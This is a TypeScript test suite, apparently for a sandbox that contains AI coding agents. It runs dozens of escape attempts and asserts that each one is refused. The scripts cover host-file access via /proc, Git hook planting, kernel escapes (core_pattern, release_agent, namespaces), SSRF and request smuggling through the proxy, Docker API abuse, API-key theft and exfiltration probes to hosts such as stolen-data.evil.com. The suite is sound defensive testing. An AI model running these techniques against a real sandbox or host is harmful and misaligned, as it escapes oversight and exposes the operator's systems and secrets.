/**
 * A table of attempts to leave a sandbox, each run in a real one as the agent would run it. Every row must fail:
 * it prints ESCAPED when it succeeds, and nothing of what the host, other containers and the proxy hold may be
 * seen. `says` shows that the attempt was made and was refused for the reason it should be.
 */
import assert from "node:assert/strict";
import { type EscapeRoom, escapeRoom, foreignIntact } from "../../support/escape_room.ts";
import { realTest } from "../../support/parts.ts";

interface Attempt {
  name: string;
  script: string;
  says?: RegExp;
}

const denied = /denied|not permitted|read-only|cannot|no such|busy|fail|refused|must be superuser|not found/i;

/** System calls by number, for which there is no program. */
const syscall = (what: string) =>
  `perl -e '${what}; if ($r == -1) { print "refused: $!\\n" } else { print "ESCAPED $r\\n" }'`;

const files: Attempt[] = [
  { name: "a link in the workspace to a file of the host", script: "cat link/secret", says: /no such/i },
  {
    name: "dots out of the workspace",
    script: 'cat "$WORK/../outside/secret"; ls "$WORK/.."',
    says: /no such/i,
  },
  { name: "the root of process 1", script: 'cat "/proc/1/root$OUTSIDE/secret"', says: denied },
  {
    name: "roots and folders of every process",
    script: 'for p in /proc/[0-9]*; do cat "$p/root$OUTSIDE/secret" "$p/cwd/../outside/secret"; done 2>&1',
    says: denied,
  },
  {
    name: "environments of every process",
    script: "cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
    says: /PATH/,
  },
  { name: "a hard link to a file of the host", script: 'ln "$OUTSIDE/secret" got && cat got', says: denied },
  { name: "the host's password file", script: "grep root: /etc/shadow && echo ESCAPED", says: denied },
  {
    name: "writing a Git hook",
    script: "echo x > .git/hooks/pre-commit && echo ESCAPED",
    says: /read-only/i,
  },
  {
    name: "setting a program in Git's configuration",
    script: "git config core.fsmonitor /tmp/x && echo ESCAPED",
    says: denied,
  },
  {
    name: "putting another .git in its place",
    script: "mv .git .git2 && cp -r .git2 .git && echo x > .git/hooks/pre-commit && echo ESCAPED",
    says: /busy/i,
  },
  {
    name: "removing .git",
    script: "rm -rf .git; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && echo ESCAPED",
    says: denied,
  },
  {
    name: "another folder for Git's configuration",
    script: "echo /tmp/x > .git/commondir && echo ESCAPED",
    says: /read-only/i,
  },
  { name: "an editor's tasks", script: "echo x > .vscode/tasks.json && echo ESCAPED", says: /read-only/i },
  { name: "replacing the forwarder", script: "echo x > /run/skiff-forwarder && echo ESCAPED", says: denied },
  {
    name: "replacing the proxy's socket",
    script: "rm -f /run/skiff/proxy.sock && echo ESCAPED; touch /run/skiff/x && echo ESCAPED",
    says: denied,
  },
  {
    name: "a listing of the sockets' folder on the host",
    script:
      'ls "$WORK/../home" "/run/skiff/.." | grep -q secrets && echo ESCAPED; ls /run/skiff/../../home/run',
    says: denied,
  },
  {
    name: "disks of the host",
    script: "ls -la /dev | grep -E 'sd|vd|nvme|xvd|loop|dm-' && echo ESCAPED; cat /dev/sda /dev/vda",
    says: /no such/i,
  },
];

const kernel: Attempt[] = [
  {
    name: "mounting memory",
    script: "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && echo ESCAPED",
    says: denied,
  },
  {
    name: "mounting /proc anew",
    script: "mkdir -p /tmp/p; mount -t proc none /tmp/p && echo ESCAPED",
    says: denied,
  },
  {
    name: "a writable remount",
    script:
      "mount -o remount,rw /run/skiff && echo ESCAPED; mount -o remount,rw,bind .git/hooks && echo ESCAPED",
    says: denied,
  },
  { name: "unmounting what protects", script: "umount .git/hooks && echo ESCAPED", says: denied },
  { name: "a device node", script: "mknod /tmp/d b 8 0 && echo ESCAPED", says: denied },
  { name: "a user namespace", script: "unshare -Ur true && echo ESCAPED", says: denied },
  { name: "a mount namespace", script: "unshare -m true && echo ESCAPED", says: denied },
  {
    name: "the host's namespaces",
    script: "nsenter -t 1 -a true && echo ESCAPED; nsenter --net=/proc/1/ns/net true && echo ESCAPED",
    says: denied,
  },
  {
    name: "core_pattern",
    script: "echo '|/tmp/x' > /proc/sys/kernel/core_pattern && echo ESCAPED",
    says: denied,
  },
  { name: "sysrq", script: "echo h > /proc/sysrq-trigger && echo ESCAPED", says: denied },
  {
    name: "the hotplug helper",
    script: "echo /tmp/x > /sys/kernel/uevent_helper && echo ESCAPED",
    says: denied,
  },
  {
    name: "cgroup release_agent",
    script:
      "for f in $(find /sys/fs/cgroup -name release_agent 2>/dev/null) /sys/fs/cgroup/x; do echo /tmp/x > $f && echo ESCAPED; done; mkdir /sys/fs/cgroup/memory/x && echo ESCAPED",
    says: denied,
  },
  {
    name: "lifting the memory limit",
    script:
      "for f in /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/memory.max; do echo 99999999999 > $f && echo ESCAPED; done",
    says: denied,
  },
  {
    name: "the kernel's memory",
    script: "head -c 1 /proc/kcore | grep -q . && echo ESCAPED; head -c 1 /dev/mem && echo ESCAPED",
    says: denied,
  },
  {
    name: "the kernel's log",
    script: "dmesg && echo ESCAPED; head -c 1 /dev/kmsg && echo ESCAPED",
    says: denied,
  },
  { name: "keys of the kernel", script: syscall("$r = syscall(250, 0, -3, 1)"), says: /refused/ },
  {
    name: "a program in the kernel (bpf)",
    script: syscall('$b = "\\0" x 128; $r = syscall(321, 0, $b, 128)'),
    says: /refused/,
  },
  {
    name: "performance events",
    script: syscall('$b = "\\0" x 128; $r = syscall(298, $b, 0, -1, -1, 0)'),
    says: /refused/,
  },
  {
    name: "opening files by their handle",
    script: syscall('$b = pack("IIQQ", 8, 1, 2, 0); $r = syscall(304, 3, $b, 0)'),
    says: /refused/,
  },
  {
    name: "loading a kernel module",
    script: syscall('$b = "\\0" x 64; $e = ""; $r = syscall(175, $b, 64, $e)'),
    says: /refused/,
  },
  { name: "another root", script: syscall('$b = "/tmp"; $r = syscall(161, $b)'), says: /refused/ },
  {
    name: "setting the clock",
    script: syscall('$b = pack("QQ", 1, 1); $r = syscall(227, 0, $b)'),
    says: /refused/,
  },
  {
    name: "the sandbox's own limits on files of the system",
    script: "echo x > /etc/passwd && echo ESCAPED; echo x > /usr/bin/git && echo ESCAPED",
    says: denied,
  },
];

const privilege: Attempt[] = [
  {
    name: "capabilities",
    script:
      "grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status | grep -vq 0000000000000000 && echo ESCAPED; grep CapEff /proc/self/status",
    says: /CapEff:\s+0{16}/,
  },
  {
    name: "new privileges",
    script:
      "grep -q 'NoNewPrivs:.*1' /proc/self/status || echo ESCAPED; grep -q 'Seccomp:.*2' /proc/self/status || echo ESCAPED; echo looked",
    says: /looked/,
  },
  {
    name: "becoming root",
    script: "su -c 'id -u' root </dev/null && echo ESCAPED; sudo -n id && echo ESCAPED",
    says: denied,
  },
  {
    name: "a set-user-id program",
    script:
      "cp /bin/bash /tmp/sh; chmod 4755 /tmp/sh; [ $(/tmp/sh -p -c 'id -u') = 0 ] && echo ESCAPED; chown 0 /tmp/sh && echo ESCAPED",
    says: denied,
  },
  {
    name: "ending processes of others",
    script: syscall("$r = (kill 9, 2) ? 0 : -1").replace("kill 9, 2", "kill 0, 99999"),
    says: /refused/,
  },
];

const resources: Attempt[] = [
  {
    name: "a fork bomb",
    script:
      "for i in $(seq 400); do sleep 5 & done 2>&1 | grep -i 'fork' | head -1; [ $(ls -d /proc/[0-9]* | wc -l) -gt 200 ] && echo ESCAPED; pkill sleep",
    says: /fork/i,
  },
  {
    name: "all memory of the machine",
    script: 'perl -e \'$x = "x" x (1024*1024*1024); print "ESC", "APED"\'; echo ended with $?',
    says: /ended with (137|1|12)/,
  },
  {
    name: "a full /dev/shm",
    script: "head -c 600M /dev/zero > /dev/shm/x && echo ESCAPED; rm -f /dev/shm/x; echo freed",
    says: /freed/,
  },
  {
    name: "a flood of the proxy",
    script:
      "for i in $(seq 100); do curl -s -m 10 http://evil.example/ -o /dev/null & done; wait; curl -s --noproxy '' http://127.0.0.1:$ALLOWED_PORT/ok",
    says: /ALLOWED/,
  },
];

const hostUrl = "http://127.0.0.1:$HOST_PORT/";
/** A GET through the proxy, whatever NO_PROXY says. */
const through = (url: string) => `curl -sS -m 10 --noproxy '' -x http://127.0.0.1:3128 ${url}`;

const network: Attempt[] = [
  {
    name: "a connection to an address",
    script: "timeout 5 bash -c 'echo > /dev/tcp/1.1.1.1/443' && echo ESCAPED",
    says: /unreachable/i,
  },
  {
    name: "IPv6",
    script: "timeout 5 bash -c 'echo > /dev/tcp/2606:4700::1111/443' && echo ESCAPED",
    says: /unreachable|cannot assign/i,
  },
  {
    name: "a name server",
    script:
      "timeout 5 bash -c 'echo > /dev/udp/8.8.8.8/53' && echo ESCAPED; getent hosts secret.evil.com && echo ESCAPED; echo asked",
    says: /unreachable[^]*asked/i,
  },
  {
    name: "UDP and QUIC",
    script: "timeout 5 bash -c 'echo > /dev/udp/1.1.1.1/443' && echo ESCAPED",
    says: /unreachable/i,
  },
  {
    name: "ICMP and raw sockets",
    script:
      'perl -e \'use Socket; socket(S, PF_INET, SOCK_RAW, 1) and print "ESCAPED" or print "refused: $!"\'',
    says: /refused/,
  },
  { name: "packet sockets", script: syscall("$r = syscall(41, 17, 3, 768)"), says: /refused/ },
  {
    name: "another network interface",
    script: "tail -n +3 /proc/net/dev | grep -v ' lo:' && echo ESCAPED; ls /sys/class/net",
    says: /lo/,
  },
  {
    name: "the host's loopback",
    script: `timeout 5 bash -c "echo > /dev/tcp/127.0.0.1/$HOST_PORT" && echo ESCAPED`,
    says: /refused/i,
  },
  {
    name: "every address of the host",
    script: 'for h in $HOSTS; do timeout 5 bash -c "echo > /dev/tcp/$h/$HOST_PORT" && echo ESCAPED; done',
    says: /unreachable/i,
  },
  {
    name: "abstract sockets of the host",
    script:
      "grep -c '@' /proc/net/unix; grep '@' /proc/net/unix | grep -v skiff && echo ESCAPED; echo looked",
    says: /looked/,
  },
  { name: "the host's loopback through the proxy", script: through(hostUrl), says: /\(loopback\)/ },
  {
    name: "the host's addresses through the proxy",
    script: `for h in $HOSTS; do ${through("http://$h:$HOST_PORT/")}; done`,
    says: /is blocked for this sandbox/,
  },
  { name: "localhost by name", script: through("http://localhost:$HOST_PORT/"), says: /no rule allows it/ },
  {
    name: "loopback in decimal, octal, hexadecimal, short",
    script: `for h in 2130706433 0177.0.0.1 0x7f.0.0.1 0x7f000001 127.1 0 0.0.0.0; do ${
      through("http://$h:$HOST_PORT/")
    }; done`,
    says: /(loopback[^]*){5}unspecified/,
  },
  {
    name: "loopback as IPv6, mapped, translated",
    script:
      `for h in '[::1]' '[::ffff:127.0.0.1]' '[::ffff:7f00:1]' '[::127.0.0.1]' '[64:ff9b::7f00:1]'; do curl -sS -g -m 10 --noproxy '' -x http://127.0.0.1:3128 "http://$h:$HOST_PORT/"; done`,
    says: /(blocked[^]*){5}/,
  },
  {
    name: "the metadata service",
    script: `${through("http://169.254.169.254/latest/meta-data/")}; ${through("http://0xa9fea9fe/")}; ${
      through("http://100.100.100.200/")
    }`,
    says: /(cloud metadata[^]*){3}/,
  },
  {
    name: "the Engine's port",
    script:
      "raw 'CONNECT 127.0.0.1:2375 HTTP/1.1\\r\\nHost: 127.0.0.1:2375\\r\\n\\r\\n' /run/skiff/proxy.sock",
    says: /403/,
  },
  {
    name: "a tunnel to another port",
    script: "raw 'CONNECT github.com:22 HTTP/1.1\\r\\nHost: github.com:22\\r\\n\\r\\n' /run/skiff/proxy.sock",
    says: /no rule allows port 22/,
  },
  {
    name: "a Host that is not the target",
    script:
      'raw "GET http://127.0.0.1:$ALLOWED_PORT/ok HTTP/1.1\\r\\nHost: 127.0.0.1:$HOST_PORT\\r\\n\\r\\n" /run/skiff/proxy.sock',
    says: /Host header names another/,
  },
  {
    name: "two Hosts",
    script:
      'raw "GET http://127.0.0.1:$ALLOWED_PORT/ok HTTP/1.1\\r\\nHost: 127.0.0.1:$ALLOWED_PORT\\r\\nHost: 127.0.0.1:$HOST_PORT\\r\\n\\r\\n" /run/skiff/proxy.sock',
    says: /400/,
  },
  {
    name: "a user name that looks like a host",
    script:
      'raw "GET http://127.0.0.1:$ALLOWED_PORT@127.0.0.1:$HOST_PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$HOST_PORT\\r\\n\\r\\n" /run/skiff/proxy.sock',
    says: /400/,
  },
  {
    name: "a request smuggled by two lengths",
    script:
      'raw "POST http://127.0.0.1:$ALLOWED_PORT/ok HTTP/1.1\\r\\nHost: 127.0.0.1:$ALLOWED_PORT\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:$HOST_PORT/ HTTP/1.1\\r\\n\\r\\n" /run/skiff/proxy.sock',
    says: /400/,
  },
  {
    name: "a request smuggled by a bare line feed",
    script:
      'raw "GET http://127.0.0.1:$ALLOWED_PORT/ok HTTP/1.1\\nHost: 127.0.0.1:$HOST_PORT\\r\\nHost: 127.0.0.1:$ALLOWED_PORT\\r\\n\\r\\n" /run/skiff/proxy.sock',
    says: /400/,
  },
  {
    name: "a redirect to a private address",
    script: `${through("-L http://127.0.0.1:$ALLOWED_PORT/redirect")}`,
    says: /\(loopback\)/,
  },
  {
    name: "another protocol through the proxy",
    script: `${
      through("ftp://127.0.0.1:$HOST_PORT/")
    }; raw "GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" /run/skiff/proxy.sock`,
    says: /400|http/,
  },
  {
    name: "SOCKS",
    script: "curl -sS -m 10 --noproxy '' -x socks5h://127.0.0.1:3128 http://127.0.0.1:$HOST_PORT/",
    says: /curl: \(/,
  },
  {
    name: "data in a name that no rule allows",
    script: through("http://stolen-data.evil.com/"),
    says: /no rule allows it/,
  },
  {
    name: "the proxy's control socket",
    script:
      "ls /run/skiff/control.sock /run/skiff/../control.sock; curl -sS -m 5 --unix-socket /run/skiff/proxy.sock http://proxy/status",
    says: /400|this is a proxy/,
  },
  {
    name: "an upstream for which there is no credential",
    script:
      "curl -sS -m 5 http://127.0.0.1:3129/other/v1; curl -sS -m 5 --path-as-is http://127.0.0.1:3129/anthropic/../../x",
    says: /(blocked[^]*){2}/,
  },
];

const docker: Attempt[] = [
  {
    name: "the Engine's own socket",
    script:
      "ls /var/run/docker.sock -la | grep -v -e '-> /run/skiff/docker.sock' && echo ESCAPED; find / -xdev -name 'docker.sock' -type s 2>/dev/null | grep -v /run/skiff/ && echo ESCAPED; echo looked",
    says: /looked/,
  },
  {
    name: "a privileged container",
    script: `made "$(create '{"Privileged":true}' | tee /dev/stderr)"`,
    says: /Privileged is not allowed/,
  },
  {
    name: "the same in another case",
    script: `made "$(create '{"privileged":true}' | tee /dev/stderr)"`,
    says: /privileged is not allowed/,
  },
  {
    name: "a second HostConfig in another case",
    script:
      `made "$(docker_ POST /containers/create "{\\"Image\\":\\"$IMAGE\\",\\"HostConfig\\":{},\\"hostconfig\\":{\\"Privileged\\":true}}" | tee /dev/stderr)"`,
    says: /not allowed/,
  },
  {
    name: "binding the host's root",
    script: `made "$(create '{"Binds":["/:/host"]}' | tee /dev/stderr)"`,
    says: /only the workspace/,
  },
  {
    name: "binding a link to the outside",
    script: `made "$(create "{\\"Binds\\":[\\"$WORK/link:/x\\"]}" | tee /dev/stderr)"`,
    says: /mount the whole workspace/,
  },
  {
    name: "binding by dots",
    script:
      `made "$(create "{\\"Mounts\\":[{\\"Type\\":\\"bind\\",\\"Source\\":\\"$WORK/../outside\\",\\"Target\\":\\"/x\\"}]}" | tee /dev/stderr)"`,
    says: /only the workspace/,
  },
  {
    name: "binding the Engine's socket",
    script: `made "$(create '{"Binds":["/var/run/docker.sock:/s"]}' | tee /dev/stderr)"`,
    says: /only the workspace/,
  },
  {
    name: "a volume that is a bind",
    script:
      `made "$(create '{"Mounts":[{"Type":"volume","Source":"v","Target":"/v","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/"}}}}]}' | tee /dev/stderr)"`,
    says: /not allowed/,
  },
  {
    name: "creating a volume that is a bind",
    script:
      `docker_ POST /volumes/create '{"Name":"skiff-esc","DriverOpts":{"type":"none","o":"bind","device":"/"}}'`,
    says: /not allowed/,
  },
  {
    name: "a volume of somebody else",
    script:
      `made "$(create "{\\"Binds\\":[\\"$FOREIGN_VOLUME:/v\\"]}" | tee /dev/stderr)"; docker_ GET /volumes/$FOREIGN_VOLUME`,
    says: /not this sandbox's[^]*no such volume/,
  },
  {
    name: "the host's processes",
    script: `made "$(create '{"PidMode":"host"}' | tee /dev/stderr)"`,
    says: /PidMode \\"host/,
  },
  {
    name: "the host's network",
    script: `made "$(create '{"NetworkMode":"host"}' | tee /dev/stderr)"`,
    says: /network \\"host/,
  },
  {
    name: "processes of a foreign container",
    script:
      `made "$(create "{\\"PidMode\\":\\"container:$FOREIGN\\"}" | tee /dev/stderr)"; made "$(create "{\\"NetworkMode\\":\\"container:$FOREIGN\\"}" | tee /dev/stderr)"`,
    says: /(No such container[^]*){2}/,
  },
  {
    name: "capabilities, devices, security options",
    script:
      `for c in '{"CapAdd":["SYS_ADMIN"]}' '{"Devices":[{"PathOnHost":"/dev/vda","PathInContainer":"/dev/vda","CgroupPermissions":"rwm"}]}' '{"SecurityOpt":["seccomp=unconfined"]}' '{"MaskedPaths":[]}' '{"UsernsMode":"host"}' '{"IpcMode":"host"}' '{"CgroupParent":"/"}' '{"Sysctls":{"kernel.shmmax":"1"}}' '{"VolumesFrom":["x"]}'; do made "$(create "$c" | tee /dev/stderr)"; done`,
    says: /(not allowed[^]*){8}/,
  },
  {
    name: "volumes of a foreign container",
    script: `made "$(create "{\\"VolumesFrom\\":[\\"$FOREIGN\\"]}" | tee /dev/stderr)"`,
    says: /No such container/,
  },
  {
    name: "seeing foreign containers",
    script:
      `docker_ GET '/containers/json?all=1' | grep -o "$FOREIGN" && echo ESCAPED; docker_ GET /containers/$FOREIGN/json; docker_ GET /containers/$FOREIGN/logs?stdout=1`,
    says: /(No such container[^]*){2}/,
  },
  {
    name: "seeing them by filters of one's own",
    script:
      `docker_ GET '/containers/json?all=1&filters=%7B%22status%22%3A%5B%22running%22%5D%7D' | grep -o "$FOREIGN" && echo ESCAPED; docker_ GET '/containers/json?all=1&filters=%7B%7D&filters=x'`,
    says: /comes twice/,
  },
  {
    name: "a program in a foreign container",
    script: `docker_ POST /containers/$FOREIGN/exec '{"Cmd":["cat","/secret"],"AttachStdout":true}'`,
    says: /No such container/,
  },
  {
    name: "a program in the sandbox itself, as root",
    script: `docker_ POST /containers/$SELF/exec '{"Cmd":["id"],"User":"root","Privileged":true}'`,
    says: /No such container/,
  },
  {
    name: "files of a foreign container",
    script:
      `docker_ GET "/containers/$FOREIGN/archive?path=/secret"; docker_ GET "/containers/$FOREIGN/export"`,
    says: /(No such container[^]*){2}/,
  },
  {
    name: "ending and removing a foreign container",
    script:
      `docker_ POST /containers/$FOREIGN/kill; docker_ DELETE "/containers/$FOREIGN?force=1"; docker_ POST /containers/prune; docker_ POST /volumes/prune`,
    says: /No such container[^]*No such container/,
  },
  {
    name: "an image that replaces one of the host's",
    script:
      `printf 'FROM %s\\nENV X=1\\n' "$FOREIGN_IMAGE" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST "/build?t=$FOREIGN_IMAGE" '' -H 'Content-Type: application/x-tar' --data-binary @-; docker_ POST "/images/$FOREIGN_IMAGE/tag?repo=x"`,
    says: /would be replaced[^]*not made by this sandbox/,
  },
  {
    name: "a build on the host's network",
    script:
      `printf 'FROM %s\\n' "$FOREIGN_IMAGE" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST '/build?networkmode=host' '' -H 'Content-Type: application/x-tar' --data-binary @-`,
    says: /network \\"host\\" is not allowed/,
  },
  {
    name: "a build step that looks for the host",
    script:
      `printf 'FROM %s\\nRUN for h in %s 127.0.0.1; do wget -T 3 -q -O - http://$h:%s/ || echo nobody; done; ls /sys/class/net\\n' "$FOREIGN_IMAGE" "$HOSTS" "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-`,
    says: /nobody/,
  },
  {
    name: "a form whose values come before the query",
    script:
      `printf 'FROM %s\\nRUN ls /sys/class/net; echo ran\\n' "$FOREIGN_IMAGE" > /tmp/Dockerfile; docker_ POST '/build?networkmode=none' '' -H 'Content-Type: application/x-www-form-urlencoded' --data-binary 'networkmode=host&remote=http://127.0.0.1/'`,
    says: /message|error/,
  },
  {
    name: "a container on the bridge",
    script:
      `id=$(docker_ POST /containers/create "{\\"Image\\":\\"$FOREIGN_IMAGE\\",\\"Cmd\\":[\\"ls\\",\\"/sys/class/net\\"],\\"HostConfig\\":{\\"NetworkMode\\":\\"bridge\\"}}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; docker_ POST /containers/$id/wait; docker_ GET "/containers/$id/logs?stdout=1" '' --output - | tr -d '\\0' | grep eth && echo ESCAPED; docker_ DELETE "/containers/$id?force=1"; echo "made $id"`,
    says: /made [0-9a-f]{64}/,
  },
  {
    name: "a network of one's own",
    script: `docker_ POST /networks/create '{"Name":"skiff-esc-net"}'`,
    says: /not allowed/,
  },
  {
    name: "a Git hook through a container with the workspace",
    script:
      `id=$(create "{\\"Binds\\":[\\"$WORK:/w\\"]}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; e=$(docker_ POST /containers/$id/exec '{"Cmd":["sh","-c","mv /w/.git /w/.git3; echo x > /w/.git/hooks/pre-commit && echo ESCAPED"],"AttachStdout":true,"AttachStderr":true}' | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /exec/$e/start '{"Detach":false}' --output - | tr -d '\\0\\1\\2'; docker_ DELETE "/containers/$id?force=1"; ls .git/hooks/pre-commit && echo ESCAPED`,
    says: /busy[^]*read-only/i,
  },
  {
    name: "root in a container with the workspace",
    script:
      `made "$(docker_ POST /containers/create "{\\"Image\\":\\"$IMAGE\\",\\"User\\":\\"0\\",\\"HostConfig\\":{\\"Binds\\":[\\"$WORK:/w\\"]}}" | tee /dev/stderr)"; id=$(create "{\\"Binds\\":[\\"$WORK:/w\\"]}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/exec '{"Cmd":["id"],"User":"root"}'; docker_ DELETE "/containers/$id?force=1"`,
    says: /must run as 1000:1000[^]*must run as 1000:1000/,
  },
  {
    name: "files of root's copied into the workspace",
    script:
      `id=$(create "{\\"Binds\\":[\\"$WORK:/w\\"]}" | grep -o '[0-9a-f]\\{64\\}'); tar -c --owner=0 --mode=4755 -C /bin true | docker_ PUT "/containers/$id/archive?path=/w" '' --data-binary @-; docker_ DELETE "/containers/$id?force=1"; [ -e true ] && echo ESCAPED`,
    says: /cannot be copied/,
  },
  {
    name: "a part of the workspace, to be swapped for a link before it is mounted",
    script:
      `mkdir swap; made "$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | tee /dev/stderr)"; made "$(create "{\\"Mounts\\":[{\\"Type\\":\\"bind\\",\\"Source\\":\\"$WORK/src\\",\\"Target\\":\\"/x\\"}]}" | tee /dev/stderr)"`,
    says: /(mount the whole workspace[^]*){2}/,
  },
  {
    name: "links in the workspace, followed by a container with it",
    script:
      `id=$(create "{\\"Binds\\":[\\"$WORK:/w\\"]}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; e=$(docker_ POST /containers/$id/exec '{"Cmd":["cat","/w/link/secret"],"AttachStdout":true,"AttachStderr":true}' | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /exec/$e/start '{"Detach":false}' --output - | tr -d '\\0\\1\\2'; docker_ GET "/containers/$id/archive?path=/w/link/secret" '' --output - | tr -d '\\0'; docker_ DELETE "/containers/$id?force=1"`,
    says: /No such file[^]*(no such|could not find)/i,
  },
  {
    name: "a build that has the Engine fetch from the host",
    script:
      `printf 'FROM %s\\nADD http://127.0.0.1:%s/x /x\\nRUN cat /x\\n' "$FOREIGN_IMAGE" "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-; printf 'FROM %s\\nARG U\\nADD $U /x\\nRUN cat /x\\n' "$FOREIGN_IMAGE" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST "/build?buildargs=%7B%22U%22%3A%22http%3A%2F%2F127.0.0.1%3A$HOST_PORT%22%7D" '' -H 'Content-Type: application/x-tar' --data-binary @-`,
    says: /(ADD of a URL is not allowed[^]*){2}/,
  },
  {
    name: "a base image from a registry on the host",
    script:
      `printf 'FROM 127.0.0.1:%s/x\\n' "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-; docker_ POST "/images/create?fromImage=127.0.0.1:$HOST_PORT/x&tag=1"; docker_ POST "/images/create?fromImage=stolen-data.evil.com/x&tag=1"`,
    says: /(registry [^ ]+ is blocked[^]*){3}/,
  },
  {
    name: "plugins, swarm, secrets, BuildKit",
    script:
      `for p in /plugins /secrets /configs /swarm /nodes /tasks; do docker_ GET $p; done; for p in /swarm/init /session /grpc /plugins/pull /auth /images/load "/containers/$FOREIGN/update"; do docker_ POST $p '{}'; done`,
    says: /(not among what a sandbox may do[^]*){13}/,
  },
  {
    name: "a path that two readers read differently",
    script:
      `for p in "//containers/$FOREIGN/json" "/v1.41/../v1.41/containers/$FOREIGN/json" "/containers/x%2f..%2f$FOREIGN/json" "/containers/$FOREIGN/json/"; do docker_ GET "$p" '' --path-as-is; done`,
    says: /(not among[^]*){4}/,
  },
  {
    name: "a request smuggled to the Engine",
    script:
      `raw "POST /containers/prune HTTP/1.1\\r\\nHost: d\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /containers/$FOREIGN/json HTTP/1.1\\r\\nHost: d\\r\\n\\r\\n" /run/skiff/docker.sock`,
    says: /400/,
  },
  {
    name: "a second request behind the first one's body",
    script:
      `raw "GET /_ping HTTP/1.1\\r\\nHost: d\\r\\nContent-Length: 77\\r\\n\\r\\nGET /containers/$FOREIGN/json HTTP/1.1\\r\\nHost: d\\r\\n\\r\\n" /run/skiff/docker.sock`,
    says: /OK|400|cut off|^$/,
  },
];

const secrets: Attempt[] = [
  { name: "the key in environments", script: "env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'", says: /PATH/ },
  {
    name: "the key in files",
    script:
      "grep -rIl 'sk-KEY' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null && echo ESCAPED; echo searched",
    says: /searched/,
  },
  {
    name: "the key echoed by the proxy",
    script:
      "curl -sS -m 10 http://127.0.0.1:3129/anthropic/v1/models -H 'x-api-key: proxy-managed' -D -; curl -sS -m 5 -X TRACE http://127.0.0.1:3129/anthropic/x",
    says: /(skiff: |HTTP)[^]*TRACE would show the credential/,
  },
  {
    name: "the key in what the Engine tells",
    script: `docker_ GET /info; docker_ GET /events?until=1; docker_ GET /containers/$SELF/json`,
    says: /No such container/,
  },
];

const groups: [string, Attempt[]][] = [
  ["files of the host", files],
  ["the kernel", kernel],
  ["privilege", privilege],
  ["resources", resources],
  ["the network", network],
  ["Docker", docker],
  ["secrets", secrets],
];

realTest("nothing leaves a sandbox", escapeRoom, async (room: EscapeRoom, t) => {
  await using _room = room;
  for (const [group, attempts] of groups) {
    await t.step(group, async (t) => {
      for (const { name, script, says } of attempts) {
        await t.step(name, async () => {
          const output = await room.attempt(script);
          const shown = `${name}:\n${output.slice(0, 3000)}`;
          assert.equal(/ESCAPED/.test(output), false, shown);
          assert.equal(output.includes(room.mark), false, shown);
          assert.equal(output.includes(room.key), false, shown);
          if (says) assert.match(output, says, shown);
        });
      }
    });
  }
  await t.step("and the host is as it was", async () => {
    assert.equal(await foreignIntact(room), true);
    assert.equal(await Deno.readTextFile(`${room.outside}/secret`), room.mark);
    const inspected = await room.docker.json<unknown>("GET", `/containers/${room.sandbox.id}/json`);
    assert.equal(JSON.stringify(inspected).includes(room.key), false);
    const log = await room.log();
    assert.equal(JSON.stringify(log).includes(room.key), false);
    assert.ok(log.filter(({ allowed }) => !allowed).length > 50, "refusals are logged");
  });
});
